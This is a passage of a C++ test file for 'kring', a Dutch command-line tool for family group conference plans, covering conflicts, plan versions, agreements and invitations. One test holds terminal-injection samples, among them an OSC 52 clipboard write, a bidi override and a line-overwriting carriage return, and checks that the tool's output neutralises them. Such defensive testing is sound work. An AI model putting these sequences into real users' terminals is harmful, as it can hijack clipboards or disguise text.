  REQUIRE(entity.exit_code == 0);
  std::smatch m;
  REQUIRE(std::regex_search(entity.out, m, std::regex("([0-9a-f]{32})")));
  const std::string note = m[1];
  k.Ok("fatima", "sync");
  k.Ok("sanne", "field set " + cid + " " + note + " tekst 'Zaterdag koken'");
  k.Ok("fatima", "field set " + cid + " " + note + " tekst 'Zondag koken'");
  // The sync that brings the conflict says so, with where to look; the next one does not.
  Run brought = k.As("sanne", "sync");
  REQUIRE(brought.exit_code == 0);
  CHECK(brought.all.find("Nieuwe conflicten: 1. Kies welke waarde blijft: kring conflicts --case " +
                         cid) != std::string::npos);
  CHECK(k.As("sanne", "sync").all.find("conflicten") == std::string::npos);
  for (const char* who : {"sanne", "fatima"}) {
    Value open = k.Json(who, "conflicts");
    REQUIRE(open.list_value().values_size() == 1);
    const Value& c = open.list_value().values(0);
    CHECK(At(c, "entity").string_value() == note);
    CHECK(At(c, "field").string_value() == "tekst");
    CHECK(At(At(c, "current"), "author").string_value() == fatima);
    CHECK(At(At(c, "other"), "author").string_value().size() == 32);
    CHECK(At(At(c, "current"), "value").kind_case() == Value::KIND_NOT_SET);
    Value with_values = k.Json(who, "conflicts --values");
    const Value& v = with_values.list_value().values(0);
    CHECK(At(At(v, "current"), "value").string_value() == "Zondag koken");
    CHECK(At(At(v, "other"), "value").string_value() == "Zaterdag koken");
  }
  // A netwerkberaad command with the global options after it, English on request.
  Run after = k.As("fatima", "conflicts --lang en --json", "", true);
  INFO(after.all);
  REQUIRE(after.exit_code == 0);
  CHECK(ParseJson(after.out).list_value().values_size() == 1);
  CHECK(k.As("fatima", "conflicts --lang en", "", true).out.find("Two people changed") !=
        std::string::npos);
  Run plain = k.As("sanne", "conflicts");
  REQUIRE(plain.exit_code == 0);
  CHECK(plain.out.find("Twee mensen veranderden tegelijk hetzelfde") != std::string::npos);
  CHECK(plain.out.find("koken") == std::string::npos);  // no content without --values
  // The lines to copy name the case: they work without KRING_CASE.
  CHECK(plain.out.find("      kring conflicts resolve --case " + cid + " --entity " + note +
                       " --field tekst --keep andere\n") != std::string::npos);
  CHECK(k.As("sanne", "conflicts resolve --entity " + note + " --field tekst --keep 12345")
            .exit_code == 2);
  CHECK(k.As("sanne", "conflicts resolve --entity nee --field tekst --keep other").exit_code == 2);

  // Sanne keeps her own (the other) value: both devices converge on it, the conflict is gone.
  k.Ok("sanne", "conflicts resolve --entity " + note + " --field tekst --keep other");
  k.Ok("fatima", "sync");
  k.Ok("sanne", "sync");
  for (const char* who : {"sanne", "fatima"}) {
    CHECK(k.Json(who, "conflicts").list_value().values_size() == 0);
    Run show = k.As(who, "case show " + cid);
    REQUIRE(show.exit_code == 0);
    CHECK(FieldText(ParseJson(show.out), note, "tekst") == "Zaterdag koken");
  }
  Run help = k.As("sanne", "conflicts --help");
  CHECK(help.exit_code == 0);
  CHECK(help.out.find("kring conflicts resolve --entity ID") != std::string::npos);
  CHECK(k.As("sanne", "--lang en conflicts resolve --help").out.find("Choose which value holds") !=
        std::string::npos);
  Run again = k.As("sanne", "conflicts resolve --entity " + note + " --field tekst --keep other");
  CHECK(again.exit_code == 1);
  CHECK(again.all.find("geen open conflict") != std::string::npos);
}

namespace {

// `text` as a shell word that printf turns back into exactly these bytes (octal escapes), so
// control characters reach kring as a member's device would send them.
std::string ShellBytes(const std::string& text) {
  std::string out = "\"$(printf '";
  for (char c : text) {
    char buf[8];
    std::snprintf(buf, sizeof buf, "\\%03o", static_cast<unsigned>(static_cast<unsigned char>(c)));
    out += buf;
  }
  return out + "')\"";
}

// Whether `out` holds anything a terminal acts on: a C0 control other than newline and tab, DEL,
// a C1 control, a bidi control (U+202A-U+202E, U+2066-U+2069) or invalid UTF-8.
bool HasRawControl(const std::string& out) {
  for (size_t i = 0; i < out.size(); ++i) {
    const auto c = static_cast<unsigned char>(out[i]);
    if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7f || c == 0xc0 || c == 0xc1 || c > 0xf4) {
      return true;
    }
    if (c == 0xc2 && i + 1 < out.size() && static_cast<unsigned char>(out[i + 1]) < 0xa0) {
      return true;
    }
    if (c == 0xe2 && i + 2 < out.size()) {
      const auto b1 = static_cast<unsigned char>(out[i + 1]);
      const auto b2 = static_cast<unsigned char>(out[i + 2]);
      if ((b1 == 0x80 && b2 >= 0xaa && b2 <= 0xae) || (b1 == 0x81 && b2 >= 0xa6 && b2 <= 0xa9)) {
        return true;
      }
    }
  }
  return !kring::utf8::IsValid(out);
}

}  // namespace

TEST_CASE("case content with terminal control characters is shown, not executed", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  k.Ok("x", "account create");
  const std::string cid = k.Id("x", "case create", "Casus gemaakt:");
  // Colours, an OSC 52 clipboard write ended by BEL, backspace, a carriage return that would
  // overwrite the line, a bidi override and isolate, a C1 CSI and DEL.
  const std::string name =
      "Anna\x1b[31m rood\x1b]52;c;aGk=\x07\b\rZ\xe2\x80\xae"
      "kcab\xe2\x81\xa6"
      "x"
      "\xc2\x9b"
      "2J\x7f\teind";
  const std::string relation = "oom\x1b]8;;https://x.invalid\x1b\\link";
  k.Ok("x", "circle propose --kind family --name " + ShellBytes(name) + " --relation " +
                ShellBytes(relation));

  for (const char* lang : {"", "--lang en "}) {
    Run list = k.As("x", std::string(lang) + "circle list");
    INFO(list.all);
    REQUIRE(list.exit_code == 0);
    CHECK_FALSE(HasRawControl(list.out));
    CHECK(list.out.find("Anna\\x1b[31m rood\\x1b]52;c;aGk=\\x07\\x08\\x0dZ\\u202ekcab\\u2066x"
                        "\\u009b2J\\x7f\teind") != std::string::npos);
    CHECK(list.out.find("(oom\\x1b]8;;https://x.invalid\\x1b\\link)") != std::string::npos);
  }
  // --json: valid JSON whose strings give back exactly what was written.
  Run json = k.As("x", "--json circle list");
  REQUIRE(json.exit_code == 0);
  CHECK_FALSE(HasRawControl(json.out));
  const Value people = ParseJson(json.out);
  REQUIRE(people.list_value().values_size() == 1);
  CHECK(At(people.list_value().values(0), "name").string_value() == name);
  CHECK(At(people.list_value().values(0), "relation").string_value() == relation);

  // A free-text field: case show (protobuf's JSON) and the conflict values both stay harmless.
  Run entity = k.As("x", "entity create " + cid + " notitie");
  REQUIRE(entity.exit_code == 0);
  std::smatch m;
  REQUIRE(std::regex_search(entity.out, m, std::regex("([0-9a-f]{32})")));
  const std::string note = m[1];
  k.Ok("x", "field set " + cid + " " + note + " tekst " + ShellBytes(name));
  Run show = k.As("x", "case show " + cid);
  REQUIRE(show.exit_code == 0);
  CHECK_FALSE(HasRawControl(show.out));
  CHECK(FieldText(ParseJson(show.out), note, "tekst") == name);

  // The calendar file keeps RFC 5545: a newline in the location becomes "\n", a control
  // character U+FFFD (TEXT has no escape for it), and the export still works for everyone.
  const std::string me = At(k.Json("x", "account show"), "account").string_value();
  k.Ok("x", "circle propose --name Xandra --kind coordinator --relation r --account " + me);
  k.Ok("x", "circle approve Xandra");
  k.Ok("x", "poll create --slot now+2d --slot now+3d");
  k.Ok("x", "poll fix 1 --kind venue --coarse " + ShellBytes("Buurthuis\x1b[2J\r\nzaal 2") +
                " --exact " + ShellBytes("Straat 1\x07\nachterom"));
  Run ics = k.As("x", "export ics");
  INFO(ics.all);
  REQUIRE(ics.exit_code == 0);
  // Control bytes: only CR LF as the line end.
  size_t stray = 0;
  for (size_t i = 0; i < ics.out.size(); ++i) {
    const auto c = static_cast<unsigned char>(ics.out[i]);
    if (c == '\r' && ics.out.compare(i, 2, "\r\n") == 0) {
      ++i;
    } else if (c < 0x20 || c == 0x7f) {
      ++stray;
    }
  }
  CHECK(stray == 0);
  CHECK(ics.out.find("\\n") != std::string::npos);
  CHECK(ics.out.find("\xef\xbf\xbd") != std::string::npos);

  // The printout: control characters in the plan become U+FFFD, on stdout and in the file.
  k.Ok("x", "plan publish --contact-person Xandra --ik-wil " +
                ShellBytes("Wonen\x1b[2J\tzelf\r\nverder") + " --contingency " +
                ShellBytes("Bel\x07 oom"));
  Run text = k.As("x", "export printout --text");
  INFO(text.all);
  REQUIRE(text.exit_code == 0);
  CHECK_FALSE(HasRawControl(text.out));
  // Nobody accepted it yet: paper says so.
  CHECK(text.out.find("Let op: dit plan is nog niet aangenomen.") != std::string::npos);
  CHECK(text.out.find("Wonen\xef\xbf\xbd[2J zelf") != std::string::npos);
  k.Ok("x", "export printout --out " + dir.path() + "/plan.html");
  std::ifstream in(dir.path() + "/plan.html", std::ios::binary);
  const std::string html((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  CHECK(html.find("Bel\xef\xbf\xbd oom") != std::string::npos);
  CHECK_FALSE(HasRawControl(html));

  // Text that is not UTF-8 cannot be stored (the case could not be read back): refused, and
  // nothing changed.
  Run broken = k.As("x", "circle propose --kind family --name " + ShellBytes("Bas\xff"));
  CHECK(broken.exit_code == 2);
  CHECK(broken.all.find("geen geldige tekst (UTF-8)") != std::string::npos);
  CHECK_FALSE(HasRawControl(broken.all));
  CHECK(k.Json("x", "circle list").list_value().values_size() == 2);
}

namespace {

// Sanne (chair) and the coordinator Fatima share a case; both devices write the note's "tekst"
// at once, Sanne `sanne_text`, Fatima `fatima_text`, and Sanne syncs. Returns {case, note}.
std::pair<std::string, std::string> NoteWrittenOnTwoDevices(People& k, const char* sanne_text,
                                                            const char* fatima_text) {
  k.Id("sanne", "account create", "account");
  const std::string fatima = k.Id("fatima", "account create", "account");
  Run created = k.As("sanne", "case create --json " + fatima + ":coordinator");
  REQUIRE(created.exit_code == 0);
  const std::string cid = At(ParseJson(created.out), "case").string_value();
  k.Ok("fatima", "sync");
  Run entity = k.As("sanne", "entity create " + cid + " notitie");
  REQUIRE(entity.exit_code == 0);
  std::smatch m;
  REQUIRE(std::regex_search(entity.out, m, std::regex("([0-9a-f]{32})")));
  const std::string note = m[1];
  k.Ok("fatima", "sync");
  k.Ok("sanne", "field set " + cid + " " + note + " tekst '" + sanne_text + "'");
  k.Ok("fatima", "field set " + cid + " " + note + " tekst '" + fatima_text + "'");
  k.Ok("sanne", "sync");
  return {cid, note};
}

}  // namespace

TEST_CASE("a word a command does not expect is refused and changes nothing", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, note] = NoteWrittenOnTwoDevices(k, "Zaterdag koken", "Zondag koken");
  REQUIRE(k.Json("sanne", "conflicts").list_value().values_size() == 1);

  // The verb after --case: before, this listed the conflicts and ignored "resolve".
  Run late = k.As("sanne", "conflicts --case " + cid + " resolve");
  CHECK(late.exit_code == 2);
  CHECK(late.all.find("woorden die ik niet verwacht") != std::string::npos);
  CHECK(late.all.find("Er is niets veranderd") != std::string::npos);
  CHECK(late.all.find("kring conflicts resolve") != std::string::npos);
  Run en = k.As("sanne", "--lang en circle list 'Tante Ria'");
  CHECK(en.exit_code == 2);
  CHECK(en.all.find("words it does not expect") != std::string::npos);
  CHECK(en.all.find("Tante Ria") == std::string::npos);  // a stray word may be a name
  Run extra =
      k.As("sanne", "conflicts resolve --entity " + note + " --field tekst --keep other nu");
  CHECK(extra.exit_code == 2);
  CHECK(k.As("sanne", "plan accept " + note + " " + note).exit_code == 2);
  CHECK(k.As("sanne", "sync nu").exit_code == 2);
  CHECK(k.As("sanne", "case list alles").exit_code == 2);
  // Nothing changed: the conflict is still open, on the value it had.
  k.Ok("sanne", "sync");
  REQUIRE(k.Json("sanne", "conflicts").list_value().values_size() == 1);
  CHECK(FieldText(ParseJson(k.As("sanne", "case show " + cid).out), note, "tekst") ==
        "Zondag koken");

  // Keep the current value: both devices converge on it and the conflict is gone everywhere.
  k.Ok("sanne", "conflicts resolve --entity " + note + " --field tekst --keep current");
  k.Ok("fatima", "sync");
  k.Ok("sanne", "sync");
  for (const char* who : {"sanne", "fatima"}) {
    CHECK(k.Json(who, "conflicts").list_value().values_size() == 0);
    Run show = k.As(who, "case show " + cid);
    REQUIRE(show.exit_code == 0);
    CHECK(FieldText(ParseJson(show.out), note, "tekst") == "Zondag koken");
  }
}

TEST_CASE("approving an app invitation for a person links the account, and says so", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator"});
  const std::string fatima = k.Account("fatima"), ria = k.Account("ria");
  k.Ok("fatima", "sync");
  k.Ok("fatima", "circle propose --name 'Tante Ria' --kind family --relation tante");
  k.Ok("fatima", "circle approve 'Tante Ria'");
  Run invited = k.As("fatima", "invitation app 'Tante Ria'");
  INFO(invited.all);
  REQUIRE(invited.exit_code == 0);
  std::smatch m;
  REQUIRE(std::regex_search(invited.out, m, std::regex("link (\\S+)")));
  const std::string link = m[1];
  k.Ok("ria", "invite accept " + link);
  // Until the chair approves, Ria reads nothing of the case: told she waits, not "no referral".
  Run waiting = k.As("ria", "referral show --case " + cid);
  INFO(waiting.all);
  CHECK(waiting.exit_code == 1);
  CHECK(waiting.all.find("Je wacht nog op goedkeuring van de hoofdpersoon.") != std::string::npos);
  CHECK(waiting.all.find("Er is nog geen aanmelding.") == std::string::npos);

  // The chair approves by the name in the circle (or the account id); that alone puts Ria's
  // account on Tante Ria, and the output says so. A name nobody with an account has changes
  // nothing.
  Run misspelt = k.As("sanne", "member approve " + cid + " 'Tante Rie'");
  CHECK(misspelt.exit_code == 2);
  CHECK(misspelt.all.find("Niemand in de kring met deze naam heeft een account.") !=
        std::string::npos);
  const Value invites = k.Json("sanne", "invite list " + cid);
  REQUIRE(invites.list_value().values_size() == 1);
  CHECK(At(invites.list_value().values(0), "status").string_value() == "accepted");
  // The name as a person types it: case does not count.
  Run approved = k.As("sanne", "member approve " + cid + " 'tante ria'");
  INFO(approved.all);
  REQUIRE(approved.exit_code == 0);
  CHECK(approved.out.find("Het account hoort nu bij: Tante Ria") != std::string::npos);
  k.Ok("fatima", "sync");
  k.Ok("ria", "sync");
  for (const char* who : {"sanne", "fatima", "ria"}) {
    Value circle = k.Json(who, "circle list");
    REQUIRE(circle.list_value().values_size() == 1);
    CHECK(At(circle.list_value().values(0), "account").string_value() == ria);
    CHECK(At(circle.list_value().values(0), "invitation").string_value() == "joined");
  }
  // Ria takes part as herself on her own device, without anyone running `circle link`.
  k.Ok("ria", "circle contact me --phone 0612345678");
  k.Ok("fatima", "sync");
  CHECK(At(k.Json("fatima", "circle contact 'Tante Ria'"), "phone").string_value() == "0612345678");
  Run status = k.As("fatima", "invitation status 'Tante Ria'");
  CHECK(status.out == "doet mee\n");
  CHECK(status.all.find("Let op") == std::string::npos);
}

namespace {

// Sanne (chair) and Tante Ria in the circle, the coordinator Fatima; a plan accepted with two
// agreements of Ria's, both agreed. Returns {case, first agreement, second agreement}.
std::array<std::string, 3> AcceptedPlanWithTwoAgreements(People& k) {
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator", "ria"});
  const std::string sanne = k.Account("sanne"), fatima = k.Account("fatima"),
                    ria = k.Account("ria");
  k.Ok("fatima", "sync");
  k.Ok("fatima", "circle propose --name Sanne --kind resident --account " + sanne);
  k.Ok("fatima",
       "circle propose --name 'Tante Ria' --kind family --relation tante --account " + ria);
  k.Ok("fatima", "circle approve Sanne");
  k.Ok("fatima", "circle approve 'Tante Ria'");
  k.Ok("sanne", "sync");
  const std::string post =
      k.Id("sanne", "agreement add --owner 'Tante Ria' --action 'Post openen' --due now+30d",
           "afspraak");
  const std::string shop =
      k.Id("sanne", "agreement add --owner 'Tante Ria' --action 'Boodschappen doen' --due now+10d",
           "afspraak");
  k.Ok("sanne",
       "plan publish --ik-wil 'Rust in huis.' --contingency 'Bel Ria.' "
       "--contact-person 'Tante Ria'");
  k.Ok("sanne", "plan accept");
  k.Ok("ria", "sync");
  k.Ok("ria", "agreement accept " + post);
  k.Ok("ria", "agreement accept " + shop);
  k.Ok("fatima", "sync");
  return {cid, post, shop};
}

std::string StatusOf(People& k, const std::string& who, const std::string& agreement) {
  const Value list = k.Json(who, "agreement list");
  for (const Value& a : list.list_value().values()) {
    if (At(a, "id").string_value() == agreement) return At(a, "status").string_value();
  }
  return "";
}

}  // namespace

TEST_CASE("a six-week check without --assess changes no agreement's status", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, post, shop] = AcceptedPlanWithTwoAgreements(k);
  k.Ok("ria", "agreement status " + shop + " done");
  k.Ok("fatima", "sync");
  REQUIRE(StatusOf(k, "fatima", post) == "accepted");

  // The post is agreed and not due yet; the shopping is done. Neither is assessed.
  Run check = k.As("fatima", "check six-week --at now+43d --outcome continue");
  INFO(check.all);
  REQUIRE(check.exit_code == 0);
  k.Ok("sanne", "sync");
  for (const char* who : {"fatima", "sanne"}) {
    CHECK(StatusOf(k, who, post) == "accepted");
    CHECK(StatusOf(k, who, shop) == "done");
  }
  // The check holds what it assessed: the shopping, as it stood.
  const Value shown = k.Json("sanne", "check show");
  const auto& assessed = At(At(shown, "latest"), "assessments").list_value().values();
  REQUIRE(assessed.size() == 1);
  CHECK(At(assessed[0], "agreement").string_value() == shop);
  CHECK(At(assessed[0], "result").string_value() == "done");
  // With --assess the agreement does change.
  k.Ok("fatima", "check six-week --at now+44d --assess " + post + "=partly");
  CHECK(StatusOf(k, "fatima", post) == "partly");
}

// The plan is the resident's: a relative cannot replace it outside private time. Paper for
// people without the app shows the accepted version, and names a newer one that waits.
TEST_CASE(
    "a relative cannot publish over the resident's plan, and paper shows the accepted version",
    "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, post, shop] = AcceptedPlanWithTwoAgreements(k);
  Run theirs = k.As("ria", "plan publish --ik-wil 'Ik wil dat mama beslist.'");
  INFO(theirs.all);
  CHECK(theirs.exit_code == 1);
  CHECK(theirs.all.find("Alleen de hoofdpersoon of de gespreksleider maakt een nieuwe versie van "
                        "het plan. Het netwerk doet dat één keer: aan het eind van de eigen "
                        "tijd") != std::string::npos);
  k.Ok("sanne", "sync");
  CHECK(At(k.Json("sanne", "plan show"), "ik_wil").string_value() == "Rust in huis.");
  CHECK(k.Json("sanne", "plan versions").list_value().values_size() == 1);

  // Oma has no app; her paper shows version 1, the accepted one.
  k.Ok("fatima", "circle propose --name Oma --kind family --relation oma");
  k.Ok("fatima", "circle approve Oma");
  k.Ok("fatima", "plan publish --ik-wil 'Meer rust in huis.'");
  k.Ok("sanne", "sync");
  Run show = k.As("sanne", "plan show");
  INFO(show.all);
  CHECK(show.out.find("Plan, versie 2") != std::string::npos);
  CHECK(show.out.find("De aangenomen versie is versie 1 (kring plan show 1)") != std::string::npos);
  CHECK(At(k.Json("sanne", "plan show"), "accepted_version").number_value() == 1);
  CHECK(At(k.Json("sanne", "plan show 1"), "accepted_version").number_value() == 0);
  Run paper = k.As("fatima", "export printout --text --person Oma");
  INFO(paper.all);
  REQUIRE(paper.exit_code == 0);
  CHECK(paper.out.find("Versie 1") != std::string::npos);
  CHECK(paper.out.find("Rust in huis.") != std::string::npos);
  CHECK(paper.out.find("Meer rust in huis.") == std::string::npos);
  CHECK(paper.out.find("Er is een nieuwere versie van het plan (versie 2). Die is nog niet "
                       "aangenomen.") != std::string::npos);
  CHECK(paper.out.find("Let op: dit plan is nog niet aangenomen.") == std::string::npos);
  // Once Sanne accepts version 2, paper shows it without a note.
  k.Ok("sanne", "plan accept");
  k.Ok("fatima", "sync");
  Run accepted = k.As("fatima", "export printout --text --person Oma");
  INFO(accepted.all);
  CHECK(accepted.out.find("Meer rust in huis.") != std::string::npos);
  CHECK(accepted.out.find("nieuwere versie") == std::string::npos);
  CHECK(accepted.out.find("nog niet aangenomen") == std::string::npos);
  CHECK(k.As("sanne", "plan show").out.find("De aangenomen versie") == std::string::npos);
}

TEST_CASE("earlier plan versions are listed and read, and Dutch words set an agreement's state",
          "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, post, shop] = AcceptedPlanWithTwoAgreements(k);
  // The words `agreement list` shows are the words it takes (and the English ones scripts use).
  k.Ok("ria", "agreement status " + shop + " klaar");
  k.Ok("ria", "agreement status " + post + " niet-gedaan");
  CHECK(StatusOf(k, "ria", shop) == "done");
  CHECK(StatusOf(k, "ria", post) == "not_done");
  Run unknown = k.As("ria", "agreement status " + post + " gedaan");
  CHECK(unknown.exit_code == 2);
  CHECK(unknown.all.find("Kies: klaar, deels, niet-gedaan, loopt-vast of vervallen.") !=
        std::string::npos);
  CHECK(StatusOf(k, "ria", post) == "not_done");
  k.Ok("ria", "sync");
  k.Ok("fatima", "sync");
  k.Ok("fatima", "check six-week --at now+43d --assess " + post + "=deels");
  CHECK(StatusOf(k, "fatima", post) == "partly");
  // The 4-week check-in's note can be read back, with who recorded it.
  k.Ok("fatima", "check in --at now+28d --note 'Gebeld met Sanne, het gaat beter.'");
  k.Ok("sanne", "sync");
  Run checks = k.As("sanne", "check show");
  INFO(checks.all);
  CHECK(checks.out.find("Check na 4 weken op ") != std::string::npos);
  CHECK(checks.out.find("  Gebeld met Sanne, het gaat beter.\n") != std::string::npos);
  const Value shown_checks = k.Json("sanne", "check show");
  REQUIRE(At(shown_checks, "checkins").list_value().values_size() == 1);
  CHECK(At(At(shown_checks, "checkins").list_value().values(0), "note").string_value() ==
        "Gebeld met Sanne, het gaat beter.");

  // After the check a second version with bottom lines, on which the professional decides; the
  // first stays readable.
  const std::string pieter = k.Id("pieter", "account create", "account");
  k.Ok("sanne", "member add " + cid + " " + pieter);
  k.Ok("fatima", "sync");
  k.Ok("fatima",
       "circle propose --name Pieter --kind professional --organisation Jeugdzorg "
       "--function jeugdzorgwerker --relation hulpverlener --account " +
           pieter);
  k.Ok("fatima", "circle approve Pieter");
  k.Ok("sanne", "sync");
  k.Ok("sanne",
       "plan publish --ik-wil 'Meer rust in huis.' --bottom-lines 'Naar school.' "
       "--responsible Pieter");
  k.Ok("pieter", "sync");
  // Said with the version decided on, as `plan versions` numbers it.
  // The decision's word in any case, as the other choices.
  Run decide = k.As("pieter", "plan decide --decision Voorwaarden --text 'Vier dagen per week.'");
  INFO(decide.all);
  REQUIRE(decide.exit_code == 0);
  CHECK(decide.out.find("Je besluit is vastgelegd (versie 2).") != std::string::npos);
  k.Ok("sanne", "sync");
  Run decided = k.As("sanne", "plan show");
  INFO(decided.all);
  CHECK(decided.out.find(
            "Besluit van de professional: akkoord met voorwaarden: Vier dagen per week.") !=
        std::string::npos);
  CHECK(At(k.Json("sanne", "plan show"), "conditions").string_value() == "Vier dagen per week.");
  Run versions = k.As("sanne", "plan versions");
  INFO(versions.all);
  REQUIRE(versions.exit_code == 0);
  CHECK(versions.out.find("Versie 1: aangenomen op ") != std::string::npos);
  CHECK(versions.out.find("Versie 2 (huidige): nog niet aangenomen, 2 afspraken") !=
        std::string::npos);
  const Value listed = k.Json("sanne", "plan versions");
  REQUIRE(listed.list_value().values_size() == 2);
  CHECK(At(listed.list_value().values(0), "number").number_value() == 1);
  CHECK(At(listed.list_value().values(0), "accepted").bool_value());
  CHECK_FALSE(At(listed.list_value().values(0), "current").bool_value());
  CHECK(At(listed.list_value().values(1), "current").bool_value());
  CHECK_FALSE(At(listed.list_value().values(1), "accepted").bool_value());

  Run first = k.As("sanne", "plan show 1");
  INFO(first.all);
  REQUIRE(first.exit_code == 0);
  CHECK(first.out.find("Plan, versie 1 (een eerdere versie; de huidige is versie 2)") !=
        std::string::npos);
  CHECK(first.out.find("Ik wil: Rust in huis.") != std::string::npos);
  const Value by_id =
      k.Json("sanne", "plan show " + At(listed.list_value().values(0), "version").string_value());
  CHECK(At(by_id, "ik_wil").string_value() == "Rust in huis.");
  CHECK_FALSE(At(by_id, "current").bool_value());
  CHECK(At(k.Json("sanne", "plan show"), "ik_wil").string_value() == "Meer rust in huis.");
  Run missing = k.As("sanne", "plan show 7");
  CHECK(missing.exit_code == 1);
  CHECK(missing.all.find("Deze versie van het plan bestaat niet.") != std::string::npos);

  // The chair accepts by number and is told which version that was, and that a newer one waits.
  Run older = k.As("sanne", "plan accept 1");
  INFO(older.all);
  REQUIRE(older.exit_code == 0);
  CHECK(older.out.find("Je hebt het plan aangenomen (versie 1). Er is een nieuwere versie: versie "
                       "2 (kring plan show 2).") != std::string::npos);
  const Value accepted = k.Json("sanne", "plan accept 2");
  CHECK(At(accepted, "number").number_value() == 2);
  CHECK(At(accepted, "version").string_value() ==
        At(listed.list_value().values(1), "version").string_value());
  CHECK(At(k.Json("sanne", "plan show"), "accepted").bool_value());

  // A version the resident agreed to while the professional has not decided: plan show says so,
  // in the words of plan versions, not "not yet accepted".
  k.Ok("sanne", "plan publish --ik-wil 'Rust.' --bottom-lines 'Naar school.' --responsible Pieter");
  k.Ok("sanne", "plan accept");
  Run waiting = k.As("sanne", "plan show");
  INFO(waiting.all);
  CHECK(waiting.out.find("  Hoofdpersoon akkoord, wacht op de professional\n") !=
        std::string::npos);
  CHECK(waiting.out.find("Nog niet aangenomen") == std::string::npos);
}

TEST_CASE("a blocked agreement shows its obstacle and new date everywhere it is shown", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, post, shop] = AcceptedPlanWithTwoAgreements(k);
  // A new date without an obstacle is refused, not dropped without a word.
  Run stray = k.As("ria", "agreement status " + shop + " deels --new-due now+30d");
  CHECK(stray.exit_code == 2);
  CHECK(stray.all.find("--new-due horen bij --obstacle") != std::string::npos);
  k.Ok("ria", "agreement status " + shop +
                  " blocked --obstacle 'De bus rijdt niet.' --obstacle-owner Sanne --new-due "
                  "now+90d");
  for (const char* who : {"fatima", "sanne"}) k.Ok(who, "sync");

  // The list: the new date is the date, the first one in brackets, the obstacle and who solves it.
  Run list = k.As("sanne", "agreement list");
  INFO(list.all);
  REQUIRE(list.exit_code == 0);
  const size_t row = list.out.find("Boodschappen doen");
  REQUIRE(row != std::string::npos);
  const std::string shop_rows = list.out.substr(row);
  CHECK(shop_rows.find("[loopt vast] voor ") != std::string::npos);
  CHECK(shop_rows.find(" (eerst ") != std::string::npos);
  CHECK(shop_rows.find("Wat in de weg zit: De bus rijdt niet.") != std::string::npos);
  CHECK(shop_rows.find("Wie dat oplost: Sanne") != std::string::npos);
  const Value json = k.Json("fatima", "agreement list");
  bool seen = false;
  for (const Value& a : json.list_value().values()) {
    if (At(a, "id").string_value() != shop) continue;
    seen = true;
    const Value& obstacle = At(a, "obstacle");
    CHECK(At(obstacle, "description").string_value() == "De bus rijdt niet.");
    CHECK(At(obstacle, "owner").string_value().size() == 32);
    CHECK(At(a, "due_ms").number_value() == At(obstacle, "new_due_ms").number_value());
    CHECK(At(a, "first_due_ms").number_value() < At(a, "due_ms").number_value());
  }
  CHECK(seen);

  // The six-week check takes it as it stands and shows the same.
  k.Ok("fatima", "check six-week --at now+43d");
  k.Ok("sanne", "sync");
  Run check = k.As("sanne", "check show");
  INFO(check.all);
  CHECK(check.out.find("[loopt vast] nieuwe datum ") != std::string::npos);
  CHECK(check.out.find("Wat in de weg zit: De bus rijdt niet.") != std::string::npos);
  const Value shown = k.Json("sanne", "check show");
  for (const Value& a : At(At(shown, "latest"), "assessments").list_value().values()) {
    if (At(a, "agreement").string_value() != shop) continue;
    CHECK(At(At(a, "obstacle"), "description").string_value() == "De bus rijdt niet.");
  }

  // On paper for Ria: the new date, the first date, the obstacle and who solves it.
  Run paper = k.As("ria", "export printout --person 'Tante Ria' --text");
  INFO(paper.all);
  REQUIRE(paper.exit_code == 0);
  CHECK(paper.out.find(" (eerst: ") != std::string::npos);
  CHECK(paper.out.find("Wat in de weg zit: De bus rijdt niet.") != std::string::npos);
  CHECK(paper.out.find("Wie dat oplost: Sanne") != std::string::npos);
  Run html = k.As("ria", "export printout --person 'Tante Ria'");
  CHECK(html.out.find("De bus rijdt niet.") != std::string::npos);
}

TEST_CASE("the same value written on two devices at once is not listed as a conflict", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, note] = NoteWrittenOnTwoDevices(k, "Zaterdag koken", "Zaterdag koken");
  for (const char* who : {"sanne", "fatima"}) {
    CHECK(k.Json(who, "conflicts").list_value().values_size() == 0);
    Run plain = k.As(who, "conflicts");
    CHECK(plain.out.find("Geen conflicten") != std::string::npos);
    // Nothing to resolve either.
    CHECK(
        k.As(who, "conflicts resolve --entity " + note + " --field tekst --keep other").exit_code ==
        1);
  }
}

TEST_CASE("the chair's pre-talk list counts pre-talks whose notes she cannot read", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator"});
  const std::string sanne = k.Account("sanne"), fatima = k.Account("fatima");
  k.Ok("fatima", "sync");
  k.Ok("fatima", "circle propose --name Sanne --kind resident --account " + sanne);
  k.Ok("fatima", "circle propose --name 'Tante Ria' --kind family --relation tante");
  k.Ok("fatima", "circle propose --name Kees --kind neighbour --relation buurman");
  for (const char* p : {"Sanne", "'Tante Ria'", "Kees"}) {
    k.Ok("fatima", std::string("circle approve ") + p);
  }
  k.Ok("fatima", "pretalk log 'Tante Ria' --how phone --explained 'Wat een beraad is.'");
  k.Ok("sanne", "sync");

  // Sanne cannot read the notes of Ria's pre-talk, but knows it was held; Kees has had none.
  Run list = k.As("sanne", "pretalk list");
  INFO(list.all);
  REQUIRE(list.exit_code == 0);
  CHECK(list.out.find("Nog geen voorgesprek: Tante Ria") == std::string::npos);
  CHECK(list.out.find("Voorgesprek gehouden: Tante Ria") != std::string::npos);
  CHECK(list.out.find("zien alleen de gespreksleider") != std::string::npos);
  CHECK(list.out.find("Nog geen voorgesprek: Kees") != std::string::npos);
  CHECK(list.out.find("Wat een beraad is.") == std::string::npos);
  const Value json = k.Json("sanne", "pretalk list");
  CHECK(At(json, "pretalks").list_value().values_size() == 0);
  CHECK(At(json, "held_notes_hidden").list_value().values_size() == 1);
  // Her own device does not claim the pre-talk is missing when she fixes the meeting: only Kees
